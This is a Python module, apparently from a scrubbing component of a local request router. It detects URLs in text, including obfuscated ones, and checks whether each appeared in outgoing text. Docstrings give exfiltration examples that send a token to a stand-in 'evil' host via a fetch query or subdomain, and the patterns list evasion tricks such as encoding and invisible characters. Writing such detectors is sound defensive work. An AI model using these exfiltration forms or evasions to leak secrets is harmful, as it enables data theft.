"""What a client could fetch: addresses in running text, however they are spelled, and which of them left this machine before.

Law: an address is as long as the most generous renderer makes it. In rendered text it ends at ASCII white space or a tag (GitHub's
autolinks, section 6.9 of GFM 0.29; linkify-it); in code also at a quote, unless it fills the quotes from their beginning.
"""

from __future__ import annotations

import html
import re
import unicodedata
from urllib.parse import unquote

from localrouter.scrub.jsontext import unescape

URL_MAX = 2048
WORD_MAX = 256

_SCHEMES = "data|javascript|vbscript|blob|https?|ftp|file|wss?|xmpp|magnet|intent|view-source|ssh|git|ldap|jar|filesystem"
_SIGN = re.compile(
    r"[A-Za-z0-9][A-Za-z0-9+.\-_]{0,62}:\\{0,4}/\\{0,4}/"
    rf"|(?<![A-Za-z0-9+.\-])(?i:{_SCHEMES}):(?=\S)"
    r"|(?<![A-Za-z0-9])(?i:www)\.(?=\S)"
    r"|(?i:mailto):[^\s?]{0,256}\?"
    r"|(?<![:/\\A-Za-z0-9])[/\\]?[/\\]{1,4}/(?=[\w.\-@%]*(?:\.\w|[\w\]]/|:\d))"
    r"|(?<![A-Za-z0-9@._\-/\\])(?:[A-Za-z0-9_\-]{1,63}\.){1,8}[A-Za-z]{2,24}\.?(?::\d{1,5})?/"
    r"|(?<![A-Za-z0-9@._\-/\\])[\w.+\-]{1,64}@[\w.\-]{1,253}:(?=[\w/~.])"
)
_SIGN_PROSE = re.compile(
    _SIGN.pattern
    + r"|(?<![A-Za-z0-9@._\-/\\])(?:[A-Za-z0-9_\-]{1,63}\.){1,8}[A-Za-z]{2,24}\.?(?::\d{1,5}(?=[?#])|[?#](?=\w))"
    + r"|(?<![:/\\A-Za-z0-9])(?:/[/\\]|\\/)(?=\S)"
    + r"|(?<=<)(?!(?i:mailto):)[A-Za-z][A-Za-z0-9+.\-]{1,31}:(?=\S)"
)
_FIXED = re.compile(r"[@:/.]")
"""Each of the signs has one of these."""
_ODD = re.compile(r"[&%\\]|[^\x00-\x7f]")
_HIDDEN = re.compile("[\u00ad\u034f\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufe00-\ufe0f\ufeff\\\\]")
_LABELS = re.compile(r"(?:\.[A-Za-z0-9\-_]{1,63})+")
_BREAK_PROSE = re.compile(r"[ \t\n\r\f\v]")
_ON_LINE = r"(?:[ \t]+[A-Za-z_:][\w.:-]*(?:[ \t]*=[ \t]*(?:[^\s\"'=<>`]+|'[^'\n]*'|\"[^\"\n]*\"))?)*"
_TAG = re.compile(rf"(?<!\\)<(?:(?:https?://|mailto:)[^\s<>]*|/?[A-Za-z][A-Za-z0-9-]*{_ON_LINE}[ \t]*/?)>")
_BREAK_CODE = re.compile(r"[ \t\n\r\f\v<>\"'`]")
_BREAK_JSON = re.compile(r"\\+[nrt\"'`<>]|\\+u00(?:0[9aAdD]|20|3[cCeE])|[ \t\n\r\f\v<>\"'`]")
_CLOSERS = "\"'`)]}<>,;|"
_TRAILING = ".,;:!?*_~\"'`)]}<>|\\"
_NAMES = """com org net edu gov mil int info biz name pro mobi app dev xyz online site tech store shop club live cloud page link click
    top blog website space icu news zone run host press world agency group team email digital services systems network software
    solutions studio today work works life fun vip asia coop museum aero jobs cat tel travel web"""
_GENERIC = frozenset(_NAMES.split())

Mode = str
"""`prose`: rendered; `code`: shown as it is; `json`: code in the strings of JSON text."""


def break_of(mode: Mode) -> re.Pattern[str]:
    """What ends a word."""
    return _BREAK_PROSE if mode == "prose" else _BREAK_JSON if mode == "json" else _BREAK_CODE


def word_start(text: str, at: int, low: int, mode: Mode) -> int:
    """Where the word that holds `at` begins, not before `low`."""
    start = low
    if mode == "json":
        for near in (64, URL_MAX):
            begin = max(low, at - near)
            broken = [b.end() for b in _BREAK_JSON.finditer(text, begin, at)]
            if broken:
                return broken[-1]
        return low
    for char in " \n\t\r\f\v" if mode == "prose" else " \n\t<>\"'`\r\f\v":
        found = text.rfind(char, start, at)
        if found >= start:
            start = found + 1
    if mode == "prose" and text.find(">", start, at) >= 0:
        # Only what every renderer takes for a tag ends an address; `https://a<b@c` is one to some.
        for tag in _TAG.finditer(text, low, at):
            start = max(start, tag.end())
    return start


def address(text: str, start: int, token: int, after: int, end: int, mode: Mode) -> int | None:
    """Where an address begins in the word [start, end) that holds the token [token, after), or None. Obfuscated ones count from the
    word's beginning: entities, percent signs, backslashes, invisible and full-width characters."""
    signs = _SIGN_PROSE if mode == "prose" else _SIGN
    if _FIXED.search(text, start, end):
        for sign in signs.finditer(text[start:end]):
            if sign.start() >= after - start:
                break
            if sign[0][-1] == "?" and after - start <= sign.end():
                continue  # whom a mail goes to is not fetched; what a link writes into it is
            return start + sign.start()
    if _ODD.search(text, start, end):
        plain = _plain(text[start:token] + "X" + text[after:end], mode)
        for sign in signs.finditer(plain):
            if sign.start() <= plain.find("X"):
                return start
    return None


def quoted(text: str, low: int, token: int, *, escaped: bool) -> tuple[int, str] | None:
    """(beginning, quote) of an address that fills a quoted string from its beginning and in which the token stands: it may hold
    spaces (`fetch("https://evil/?q= TOKEN")`). `escaped`: a bare double quote bounds a whole file, in an edit tool's arguments."""
    for quote in "\"'`<":
        at = text.rfind(quote, low, token) + 1
        if escaped and quote == '"' and text[at - 2 : at - 1] != "\\":
            continue
        if at and "\n" not in text[at:token] and _FIXED.search(text, at, token):
            sign = _SIGN.match(text, at)
            if sign and sign.end() <= token:
                return at, ">" if quote == "<" else quote
    return None


def absolute(form: str) -> bool:
    """Whether an address names its host."""
    return _SIGN.match(form) is not None


def _plain(word: str, mode: Mode) -> str:
    if mode == "json":
        word = unescape(word)
    word = html.unescape(word)
    word = unicodedata.normalize("NFKC", unquote(word))
    return _HIDDEN.sub("", word)


def host_after(text: str, after: int, end: int, *, any_domain: bool) -> int | None:
    """The end of the host name that a token begins (`TOKEN.evil.com`), when what follows it ends in a top-level domain: one that
    renderers link, or any."""
    labels = _LABELS.match(text, after, end)
    if labels is None:
        return None
    last = labels[0].rpartition(".")[2].lower()
    if any_domain or (len(last) == 2 and last.isalpha()) or last in _GENERIC or last.startswith("xn--"):
        return labels.end()
    return None


def host_start(text: str, token: int, low: int) -> int:
    """Where the host name begins that a token is a label of."""
    while token > low and (text[token - 1].isalnum() or text[token - 1] in ".-_"):
        token -= 1
    return token


class Outgoing:
    """The text that left this machine with the request: an address that stands in it, in this very form, tells its host nothing."""

    __slots__ = ("_framed", "_known", "_text")

    def __init__(self, text: str) -> None:
        self._text = text
        self._framed = ""
        self._known: dict[tuple[str, str], bool] = {}

    def __contains__(self, raw: str) -> bool:
        return raw in self._text

    def line(self, line: str) -> bool:
        """Whether a line stands in the text as a whole."""
        return ("\n" + line + "\n") in self._lines

    @property
    def _lines(self) -> str:
        if not self._framed:
            self._framed = "\n" + self._text + "\n"
        return self._framed

    def vouches(self, text: str, start: int, after: int, end: int, mode: Mode) -> bool:
        """Whether the address that begins at `start` stands in the outgoing text up to one of its possible ends, all behind `after`."""
        ends = [end, *(i for i in range(end - 1, after - 1, -1) if text[i] in _CLOSERS or text[i] in _TRAILING)][:24]
        for stop in ends:
            if stop < end and not self._closes(text, start, stop, end):
                continue
            form = text[start:stop]
            if self.stands(form) or (mode == "json" and "\\" in form and self.stands(unescape(form))):
                return True
        return False

    @staticmethod
    def _closes(text: str, start: int, stop: int, end: int) -> bool:
        """Whether an address may be taken to end here although its word goes on."""
        rest = text[stop:end]
        if not rest.strip(_TRAILING):
            return True
        # Behind a bare host everything could still be the host's name, or make it a user name.
        form = text[start:stop].partition("//")[2] or text[start:stop]
        return rest[0] in _CLOSERS and not (rest[0] in "<>" and "@" in rest) and any(c in form for c in "/?#")

    def stands(self, form: str, intro: str = "") -> bool:
        """Whether a form stands in the text, not as a part of something longer. `intro` must stand before it."""
        if not form:
            return False
        key = (form, intro)
        if key not in self._known:
            if len(self._known) > 512:
                self._known.clear()
            self._known[key] = self._find(form, intro)
        return self._known[key]

    def _find(self, form: str, intro: str) -> bool:
        text, wanted = self._text, intro + form
        at = text.find(wanted)
        looked = 0
        while at >= 0 and looked < 1000:
            before, after = text[max(0, at - 2) : at], text[at + len(wanted) : at + len(wanted) + 2]
            if not _continues(after) and (bool(intro) or _begins(before, form)):
                return True
            at = text.find(wanted, at + 1)
            looked += 1
        return False


def _continues(after: str) -> bool:
    first = after[:1]
    if first in ("_", "-", "%", "=", "&", "/", "@", "#", "+", "~", "?") and first:
        return not (first == "?" and not after[1:].isalnum()) and not (first in "_~" and not after[1:].isalnum())
    if first in (".", ":") and first:
        return after[1:].isalnum() or after[1:] == "/"
    return first.isascii() and first.isalnum()


def _begins(before: str, form: str) -> bool:
    last = before[-1:]
    if not form[0].isalnum():
        return True
    return before == "//" or not ((last.isascii() and last.isalnum()) or (last in "-._@%/" and last != ""))
